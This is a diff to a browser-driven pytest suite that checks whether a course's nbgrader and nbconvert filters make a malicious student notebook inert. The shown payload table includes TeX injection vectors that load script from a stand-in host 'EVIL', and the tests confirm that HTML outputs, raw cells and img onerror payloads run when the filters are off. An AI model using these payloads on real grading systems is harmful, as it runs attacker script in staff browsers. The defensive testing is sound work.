@@ -95,7 +95,6 @@ VECTORS = {
     "tex-require": r"$\require{http://EVIL/tex-require.js}$",
     "tex-unicode": r"$\unicode[pwned; http://EVIL/tex-unicode]{x41}$",
 }
-CLICKED = ("a-javascript", "a-entity-javascript", "md-link-javascript", "tex-href")
 TEX = tuple(name for name in VECTORS if name.startswith("tex-"))
 # The honest part of each answer: what the TA must still read, and a formula to see typeset.
 HONEST = "Each output channel sums the cross-correlations of all input channels."
@@ -356,7 +355,11 @@ class Probe:
     def fired(self) -> set[str]:
         """Every vector that ran script, fetched outside, or restyled with its class."""
         marks = self.marks
-        fetched = [urlparse(u).path.strip("/").split(".")[0] for u in self.outside]
+        fetched = [
+            urlparse(u).path.strip("/").split(".")[0]
+            for u in self.outside
+            if urlparse(u).hostname == EVIL
+        ]
         classed = self.page.evaluate("!!document.querySelector('.pwned-class')")
         return set(marks) | set(fetched) | ({"tex-class"} if classed else set())
 
@@ -455,6 +458,10 @@ def test_the_ta_still_reads_each_answer_and_its_math(browser, course):
             assert honest_math_typeset(probe) >= len(answers()), label
         finally:
             probe.close()
+    feedback = (course / "out" / "feedback" / "attacker.html").read_text(
+        encoding="utf-8"
+    )
+    assert html.escape(MARKUP_NOTEBOOK) in feedback  # named, as text
     report = (course / "out" / "report.html").read_text(encoding="utf-8")
     assert "Similar submissions" in report
     assert html.escape(MARKUP_ID) in report  # listed, as text
@@ -494,6 +501,47 @@ def test_control_the_same_vectors_rendered_raw_do_fire(browser, tmp_path):
     assert probe.fired() == {"meta-refresh"}
     assert [urlparse(u).path for u in probe.outside] == ["/meta-refresh"]
     probe.close()
+
+
+def nbconvert_page(course: Path, tmp_path: Path, config) -> Path:
+    """The attacker's submitted notebook (outputs, tags, attachment, raw cell as submitted)
+    rendered by nbconvert's classic template, which formgrader's and the feedback's extend."""
+    from nbconvert.exporters import HTMLExporter
+
+    exporter = HTMLExporter(config=config, template_name="classic")
+    submitted = course / "submitted" / "attacker" / ASSIGNMENT / "05-exercises.ipynb"
+    page, _ = exporter.from_filename(str(submitted))
+    out = tmp_path / f"nbconvert-{len(list(tmp_path.iterdir()))}.html"
+    out.write_text(page, encoding="utf-8")
+    return out
+
+
+@pytest.mark.slow
+@pytest.mark.sandbox
+def test_outputs_raw_cells_and_attachments_are_inert_under_the_course_config(
+    browser, course, tmp_path
+):
+    """nbgrader clears a submission's outputs before formgrader shows it; the course's filters
+    do not rely on that. With them, nothing fires (and no policy helps here); without them, the
+    HTML and markdown outputs, the raw cell and the added markdown cell run."""
+    from traitlets.config import Config
+    from traitlets.config.loader import PyFileConfigLoader
+
+    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
+    probe = Probe(browser, nbconvert_page(course, tmp_path, config).as_uri(), "file://")
+    try:
+        # (The classic template itself asks CDNs for require.js and jQuery: not the student.)
+        attacker = [u for u in probe.outside if urlparse(u).hostname == EVIL]
+        assert (probe.fired(), probe.dialogs, attacker) == (set(), [], [])
+        assert HONEST in probe.text()
+    finally:
+        probe.close()
+    probe = Probe(
+        browser, nbconvert_page(course, tmp_path, Config()).as_uri(), "file://"
+    )
+    fired = probe.fired()
+    probe.close()
+    assert {"output-html", "output-markdown", "raw-cell", "img-onerror"} <= fired, fired
 
 
 UNSAFE_TEX = r"""
